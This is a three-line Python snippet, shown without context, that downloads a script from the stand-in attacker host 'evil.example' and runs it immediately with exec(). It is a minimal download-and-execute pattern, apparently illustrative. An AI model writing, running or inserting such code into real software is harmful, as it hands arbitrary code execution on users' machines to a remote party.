import requests
code = requests.get("https://evil.example/p.py").text
exec(code)
